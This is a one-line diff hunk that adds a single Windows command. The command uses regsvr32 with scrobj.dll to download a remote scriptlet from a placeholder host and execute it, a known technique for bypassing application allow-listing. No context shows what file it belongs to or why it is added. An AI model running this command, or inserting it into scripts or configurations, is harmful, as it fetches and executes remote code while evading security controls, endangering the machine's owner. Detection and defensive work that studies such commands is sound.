@@ -1,0 +1,1 @@
+regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll
